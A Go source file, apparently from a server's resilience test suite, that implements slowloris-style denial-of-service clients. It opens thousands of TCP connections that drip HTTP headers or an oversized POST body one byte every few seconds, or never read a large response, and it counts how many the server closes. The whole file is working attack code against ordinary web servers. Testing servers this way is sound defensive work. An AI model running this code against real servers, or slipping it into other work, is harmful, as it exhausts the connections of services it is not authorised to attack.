package attack

import (
	"context"
	"errors"
	"io"
	"net"
	"sync"
	"sync/atomic"
	"time"
)

// Slow is many connections that take their time.
type Slow struct {
	conns []net.Conn
	// Ended counts those that the other side has ended.
	ended atomic.Int64
	all   sync.WaitGroup
}

// Pace is one kind of slow client.
type Pace struct {
	// First is sent at once.
	First string
	// Drip is sent again and again, one byte at a time; empty: nothing more is sent.
	Drip string
	// Deaf clients do not read.
	Deaf bool
}

// The three phases in which a client can be slow.
var (
	SlowHead = Pace{First: "GET /good HTTP/1.1\r\nHost: a.example\r\nX: ", Drip: "x"}
	SlowBody = Pace{First: "POST /good HTTP/1.1\r\nHost: a.example\r\nContent-Length: 100000000\r\n\r\n", Drip: "x"}
	SlowRead = Pace{First: "GET /good/large HTTP/1.1\r\nHost: a.example\r\n\r\n", Deaf: true}
)

// Open adds n connections of one pace; it is done when each has sent its first bytes.
func (s *Slow) Open(ctx context.Context, addr string, n int, p Pace) error {
	const dialers = 32
	var all sync.WaitGroup
	var next atomic.Int64
	var mu sync.Mutex
	var errs []error
	for range dialers {
		all.Go(func() {
			for next.Add(1) <= int64(n) && ctx.Err() == nil {
				c, err := s.open(ctx, addr, p)
				mu.Lock()
				if err != nil {
					errs = append(errs, err)
					mu.Unlock()
					return
				}
				s.conns = append(s.conns, c)
				mu.Unlock()
				time.Sleep(10 * time.Millisecond) // about 3,000 per second: dialling at full speed would measure the attacker
			}
		})
	}
	all.Wait()
	return errors.Join(append(errs, ctx.Err())...)
}

func (s *Slow) open(ctx context.Context, addr string, p Pace) (net.Conn, error) {
	c, err := new(net.Dialer).DialContext(ctx, "tcp", addr)
	if err != nil {
		return nil, err
	}
	if t, ok := c.(*net.TCPConn); ok && p.Deaf {
		_ = t.SetReadBuffer(4 << 10) // what the kernel holds for it is not what is asked here
	}
	if _, err := io.WriteString(c, p.First); err != nil {
		return nil, errors.Join(err, c.Close())
	}
	if !p.Deaf {
		s.all.Go(func() {
			_, _ = io.Copy(io.Discard, c) // however it ends
			s.ended.Add(1)
		})
	}
	if p.Drip != "" {
		s.all.Go(func() { drip(c, p.Drip) })
	}
	return c, nil
}

func drip(c net.Conn, what string) {
	tick := time.NewTicker(3 * time.Second)
	defer tick.Stop()
	for range tick.C {
		if _, err := io.WriteString(c, what); err != nil {
			return
		}
	}
}

// Ended is how many of those that listen were ended by the other side.
func (s *Slow) Ended() int { return int(s.ended.Load()) }

// Close ends them all.
func (s *Slow) Close() {
	for _, c := range s.conns {
		if t, ok := c.(*net.TCPConn); ok {
			_ = t.SetLinger(0) // thousands of them would fill the table of ports
		}
		_ = c.Close() // it may have been ended
	}
	s.all.Wait()
}
